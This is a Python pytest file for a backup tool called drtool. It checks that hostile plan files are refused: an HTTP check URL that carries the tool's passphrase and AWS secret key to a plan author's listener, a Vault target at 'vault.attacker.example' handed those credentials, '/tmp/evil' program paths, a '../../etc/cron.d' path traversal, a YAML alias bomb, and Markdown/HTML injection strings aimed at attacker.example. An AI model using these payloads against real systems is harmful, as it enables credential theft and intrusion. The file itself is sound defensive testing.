"""Hostile plans and hostile text (docs/threat-model.md, "A malicious or careless plan author"): a plan cannot
read a secret out of drtool's environment, name a program to run, hand drtool's credentials to a target or
name a file outside the report folder; YAML aliases are refused; a report shows backup data as text.

Each attack is reproduced as it would be written, then refused with the one-line error a user sees.
"""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from drtool.config import load_settings
from drtool.errors import DrtoolError, UsageError
from drtool.plans.checks import run_checks
from drtool.plans.loader import LoadedPlan, load_plan, read_values
from drtool.plugin.manager import get_plugin
from drtool.repo.repository import Repository
from drtool.report.markdown import to_markdown
from drtool.restore import run_restore
from tests.fixtures.core import Cli, assert_clean_error
from tests.plugins.test_hostile_restore import forge

PASSPHRASE_VALUE = "store-passphrase-7f3a9c"  # what drtool unlocks the store with, in its environment
AWS_VALUE = "aws-secret-key-55e1d0"
ENV = {"DRTOOL_PASSPHRASE": PASSPHRASE_VALUE, "AWS_SECRET_ACCESS_KEY": AWS_VALUE, "HOME": "/root"}


def write(tmp_path: Path, body: str, name: str = "plan.yaml") -> Path:
    path = tmp_path / name
    path.write_text(body)
    return path


def errors(loaded: LoadedPlan) -> list[str]:
    return [f"{p.line}: {p.message} ({p.hint})" for p in loaded.errors]


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """The plan author's own endpoint (a real HTTP server on loopback): the URL, and the paths it was sent."""
    seen: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


# --- variables -------------------------------------------------------------------------------------------


def test_a_plan_cannot_send_drtools_passphrase_to_its_http_check(
    tmp_path: Path, listener: tuple[str, list[str]]
) -> None:
    url, seen = listener
    leak = f"{url}/healthz?p=${{DRTOOL_PASSPHRASE}}&k=${{AWS_SECRET_ACCESS_KEY}}"
    body = f"name: exfil\nsteps: [{{id: a, uses: files}}]\nchecks:\n  - {{type: http, id: up, url: '{leak}'}}\n"
    loaded = load_plan(write(tmp_path, body), env=ENV)
    found = errors(loaded)
    assert any("${DRTOOL_PASSPHRASE} is not a declared variable" in e and "secret-bearing" in e for e in found)
    assert any("${AWS_SECRET_ACCESS_KEY} is not a declared variable" in e for e in found)
    assert PASSPHRASE_VALUE not in str(loaded.data) and AWS_VALUE not in str(loaded.data)
    with pytest.raises(UsageError) as err:
        run_checks(loaded.require())
    assert "is not a declared variable" in err.value.one_line() and PASSPHRASE_VALUE not in err.value.one_line()
    assert seen == []


def test_secret_bearing_names_cannot_be_declared(tmp_path: Path) -> None:
    for name in ("DRTOOL_PASSPHRASE", "AWS_ACCESS_KEY_ID", "VAULT_TOKEN", "DB_PASSWORD", "SIGNING_KEY", "GH_TOKEN"):
        body = f"name: t\nvariables: {{{name}: innocent}}\nsteps: [{{id: a, uses: files}}]\n"
        body += f"target: {{files: {{path: '${{{name}}}'}}}}\n"
        loaded = load_plan(write(tmp_path, body), env={name: "s3cr3t"})
        assert any("secret-bearing name" in e for e in errors(loaded)), (name, errors(loaded))
        assert "s3cr3t" not in str(loaded.data)


def test_only_declared_variables_are_read_and_values_files_cannot_add_any(tmp_path: Path) -> None:
    body = (
        "name: t\nvariables:\n  TARGET_DIR: where the files go\n  DEPTH: {description: d, default: 3}\n"
        "parallelism: ${DEPTH}\nsteps: [{id: a, uses: files}]\ntarget: {files: {path: '${TARGET_DIR}/${HOME}'}}\n"
    )
    values = read_values(write(tmp_path, "TARGET_DIR: /restore\nSTRAY: x\n", "values.yaml"))
    loaded = load_plan(write(tmp_path, body), values=values, env=ENV)
    assert loaded.data["target"]["files"]["path"] == "/restore/${HOME}"  # HOME is not declared: never read
    assert loaded.data["parallelism"] == 3
    assert any("${HOME} is not a declared variable" in e for e in errors(loaded))
    assert [p.message for p in loaded.problems if p.severity == "warning"] == [
        "the values file sets STRAY, which this plan does not declare"
    ]


def test_cli_validate_names_the_undeclared_variable_and_never_its_value(cli: Cli, tmp_path: Path) -> None:
    body = "name: t\nsteps: [{id: a, uses: files}]\ntarget: {files: {path: '${DRTOOL_PASSPHRASE}'}}\n"
    proc = cli("plan", "validate", str(write(tmp_path, body)), env={"DRTOOL_PASSPHRASE": PASSPHRASE_VALUE})
    assert proc.returncode == 2 and "${DRTOOL_PASSPHRASE} is not a declared variable" in proc.stdout + proc.stderr
    assert PASSPHRASE_VALUE not in proc.stdout + proc.stderr


# --- programs, credentials, names -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "where",
    [
        "steps: [{id: a, uses: etcd, with: {etcdutl: /tmp/evil}}]",
        "steps: [{id: a, uses: etcd}]\ntarget: {etcd: {data_dir: /x, etcdutl: /tmp/evil}}",
        "steps: [{id: a, uses: git, target: {git_command: /tmp/evil}}]",
    ],
)
def test_plans_name_no_program(tmp_path: Path, where: str) -> None:
    loaded = load_plan(write(tmp_path, f"name: t\n{where}\n"), env={})
    assert any("would name a program to run" in e for e in errors(loaded)), errors(loaded)


def test_the_etcd_restore_runs_no_program_an_option_names(repo: Repository, tmp_path: Path) -> None:
    """Before: ``etcdutl`` from the options was executed (here it would have left a marker file)."""
    marker = tmp_path / "ran"
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\ntouch {marker}\n")
    evil.chmod(0o755)
    manifest = forge(repo, "etcd", {"snapshot.db": (b"not a snapshot", {})}, {"sha256": "0" * 64})
    target = {"data_dir": str(tmp_path / "etcd-data"), "start": False}
    with pytest.raises(UsageError) as err:
        run_restore(repo, manifest, get_plugin("etcd"), target, options={"etcdutl": str(evil)})
    assert "DRTOOL_ETCDUTL" in err.value.one_line()
    assert not marker.exists() and not (tmp_path / "etcd-data").exists()


def test_env_references_never_hand_drtools_credentials_to_a_target(tmp_path: Path) -> None:
    target = "{address: 'https://vault.attacker.example', token_env: DRTOOL_PASSPHRASE}"
    body = f"name: t\nsteps: [{{id: a, uses: vault, target: {target}}}]\n"
    loaded = load_plan(write(tmp_path, body), env={})
    assert any("token_env (DRTOOL_PASSPHRASE) would hand drtool's own" in e for e in errors(loaded)), errors(loaded)
    credentials = "{r.example: {user: u, password_env: AWS_SECRET_ACCESS_KEY}}"
    body = f"name: t\nsteps: [{{id: a, uses: images}}]\ntarget: {{images: {{credentials: {credentials}}}}}\n"
    assert any("AWS_SECRET_ACCESS_KEY" in e for e in errors(load_plan(write(tmp_path, body), env={})))


def test_http_checks_carry_no_credentials(tmp_path: Path) -> None:
    for url in ("https://admin:pw@api.example/healthz", "https://api.example/healthz?access_token=abc"):
        body = f"name: t\nsteps: [{{id: a, uses: files}}]\nchecks: [{{type: http, id: c, url: '{url}'}}]\n"
        assert any("the check's URL carries" in e for e in errors(load_plan(write(tmp_path, body), env={}))), url


def test_a_plan_name_cannot_name_a_file_outside_the_report_folder(tmp_path: Path) -> None:
    loaded = load_plan(write(tmp_path, "name: ../../etc/cron.d/x\nsteps: [{id: a, uses: files}]\n"), env={})
    assert any("it names report files" in e for e in errors(loaded)), errors(loaded)


# --- YAML aliases ------------------------------------------------------------------------------------------

BOMB = "".join(
    f"{k}: &{k} [{', '.join([f'*{p}'] * 9) if p else ', '.join(['lol'] * 9)}]\n"
    for p, k in zip(["", "a", "b", "c", "d", "e"], ["a", "b", "c", "d", "e", "f"], strict=True)
)


def test_a_small_alias_bomb_is_refused_at_once(tmp_path: Path, cli: Cli) -> None:
    plan = "name: bomb\nsteps: [{id: a, uses: files}]\n" + BOMB
    assert len(plan) < 400  # 9^6 = 531441 leaves once expanded
    path = write(tmp_path, plan)
    started = time.monotonic()
    loaded = load_plan(path, env={})
    assert time.monotonic() - started < 1
    assert [(p.line, p.message) for p in loaded.errors] == [
        (4, "not valid YAML: found alias *a: aliases are not allowed (write the value out)")
    ]
    proc = cli("plan", "validate", str(path))
    assert_clean_error(proc, 2, "plan(s) invalid")
    assert f"{path}:4: error: not valid YAML: found alias *a: aliases are not allowed" in proc.stdout


def test_config_and_values_files_refuse_aliases_too(tmp_path: Path) -> None:
    config = write(tmp_path, "store: /s\nsources:\n  files: &f {paths: [/etc]}\n  other: *f\n", "config.yaml")
    with pytest.raises(UsageError, match="line 4 is not valid YAML: found alias"):
        load_settings(config=str(config))
    with pytest.raises(DrtoolError, match="found alias"):
        read_values(write(tmp_path, "A: &x 1\nB: *x\n", "values.yaml"))


# --- the Markdown report -----------------------------------------------------------------------------------

HOSTILE = "evil`](https://attacker.example/x) ![t](https://attacker.example/p.png) <img src=x onerror=alert(1)> @admin"


def hostile_report() -> dict[str, Any]:
    finding = {
        "status": "inside",
        "address": f"registry.infra:5000`{HOSTILE}",
        "purpose": HOSTILE,
        "found_by": ["kubernetes"],
        "evidence": f"[click](https://attacker.example/e) {HOSTILE}",
        "detail": HOSTILE,
        "hint": "https://attacker.example/fix www.attacker.example",
        "needed": True,
    }
    step = {"id": "cluster", "uses": "kubernetes", "status": "failed", "started_s": 0, "finished_s": 1}
    step |= {"attempts": 1, "error": HOSTILE, "refused_connections": [f"10.0.0.1:443 {HOSTILE}"]}
    return {
        "kind": "rehearsal",
        "plan": {"name": "p", "path": "plan.yaml"},
        "backup": {"id": "b", "created": HOSTILE},
        "run": {"id": "r", "target": HOSTILE, "steps": [step]},
        "checks": [{"step": "cluster", "name": "c", "ok": False, "detail": HOSTILE}],
        "independence": {"counts": {"inside": 1}, "findings": [finding], "domain": {"facts": {"nodes": [HOSTILE]}}},
    }


def test_backup_data_in_the_markdown_report_renders_as_text() -> None:
    markdown = to_markdown(hostile_report())
    html = MarkdownIt("commonmark").enable("table").render(markdown)
    assert "<a " not in html and "<img" not in html and "<script" not in html
    assert "registry.infra:5000`evil`" in html.replace("&quot;", '"')  # the address, whole, in one code span
    assert html.count("attacker.example/x") >= 5  # every copy shown as text
